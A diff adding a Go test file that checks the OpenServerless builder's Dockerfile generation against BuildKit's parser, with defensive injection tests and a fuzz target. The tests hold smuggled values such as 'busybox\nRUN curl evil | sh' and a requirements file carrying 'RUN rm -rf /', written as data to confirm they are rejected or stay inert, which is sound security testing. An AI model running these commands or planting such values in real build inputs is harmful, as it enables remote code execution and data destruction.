@@ -1,0 +1,126 @@
+// Package dockerfile checks the builder's Dockerfiles with BuildKit's parser:
+// whatever the input, either a clear error or exactly the expected
+// instructions, with FROM naming the source.
+package dockerfile
+
+import (
+	"encoding/base64"
+	"strings"
+	"testing"
+
+	"github.com/moby/buildkit/frontend/dockerfile/parser"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/apache/openserverless-builder/shared/apperr"
+	"github.com/apache/openserverless-builder/shared/build"
+	"github.com/apache/openserverless-builder/shared/identity"
+)
+
+type instruction struct {
+	cmd  string
+	args []string
+}
+
+func parse(t testing.TB, df string) []instruction {
+	t.Helper()
+	res, err := parser.Parse(strings.NewReader(df))
+	require.NoError(t, err, "BuildKit cannot parse:\n%s", df)
+	var out []instruction
+	for _, n := range res.AST.Children {
+		var args []string
+		for a := n.Next; a != nil; a = a.Next {
+			args = append(args, a.Value)
+		}
+		out = append(out, instruction{strings.ToLower(n.Value), args})
+	}
+	return out
+}
+
+// check validates input as send does and, when it passes, checks the
+// Dockerfile instruction by instruction.
+func check(t testing.TB, source, target, kind, file string) {
+	caller := identity.Caller{Name: "devel", Web: true}
+	if err := build.ParseSource(source); err != nil {
+		requireClear(t, err)
+		return
+	}
+	repo, tag, err := build.ParseTarget(target, caller)
+	if err != nil {
+		requireClear(t, err)
+		return
+	}
+	k, ok := build.LookupKind(kind)
+	if !ok {
+		return
+	}
+	data, err := build.DecodeFile(file)
+	if err != nil {
+		requireClear(t, err)
+		return
+	}
+	req := build.Request{Source: source, Repo: repo, Tag: tag, Kind: k, File: data}
+	got := parse(t, build.Dockerfile(req))
+	want := []instruction{{"from", []string{source}}}
+	if data != nil {
+		want = append(want,
+			instruction{"user", []string{"root"}},
+			instruction{"copy", []string{k.File, "/tmp/" + k.File}},
+			instruction{"run", []string{"if [ -x /bin/extend ]; then /bin/extend; else " + k.Install + "; fi && rm -f /tmp/" + k.File}},
+			instruction{"user", []string{build.RuntimeUser}},
+		)
+	}
+	assert.Equal(t, want, got, "source %q", source)
+}
+
+func requireClear(t testing.TB, err error) {
+	t.Helper()
+	s := apperr.Status(err)
+	if s != 400 && s != 403 && s != 413 {
+		t.Fatalf("unexpected status %d: %v", s, err)
+	}
+	if apperr.Message(err) == "" {
+		t.Fatalf("empty message for %v", err)
+	}
+}
+
+var requirements = base64.StdEncoding.EncodeToString([]byte("beautifulsoup4\nsetuptools\n"))
+
+func TestSeedExample(t *testing.T) {
+	check(t, "apache/openserverless-runtime-python:v3.13-2506091954", "devel:python3.13-custom", "python", requirements)
+}
+
+func TestEveryKind(t *testing.T) {
+	for _, k := range build.KindNames() {
+		check(t, "apache/openserverless-runtime-"+k+":v1", "devel/"+k+":custom", k, requirements)
+		check(t, "apache/openserverless-runtime-"+k+":v1", "devel/"+k+":custom", k, "")
+	}
+}
+
+func TestInjectionAttempts(t *testing.T) {
+	for _, source := range []string{
+		"busybox\nRUN curl evil | sh",
+		"busybox \\\nRUN id",
+		"busybox # comment",
+		"busybox\rRUN id",
+		"busybox:${X}",
+		"busybox AS x",
+	} {
+		err := build.ParseSource(source)
+		require.Error(t, err, "%q", source)
+		assert.Equal(t, 400, apperr.Status(err))
+	}
+	// A requirements file full of Dockerfile syntax stays data.
+	evil := base64.StdEncoding.EncodeToString([]byte("requests\nRUN rm -rf /\n# syntax=evil\n"))
+	check(t, "busybox:1", "devel:v1", "python", evil)
+}
+
+func FuzzSend(f *testing.F) {
+	f.Add("apache/openserverless-runtime-python:v3.13-2506091954", "devel:python3.13-custom", "python", requirements)
+	f.Add("busybox", "devel/x:1", "nodejs", "")
+	f.Add("busybox\nRUN id", "devel:v1", "go", "eA==")
+	f.Add("reg:5000/a/b@sha256:"+strings.Repeat("a", 64), "devel:v1", "java", "////")
+	f.Fuzz(func(t *testing.T, source, target, kind, file string) {
+		check(t, source, target, kind, file)
+	})
+}
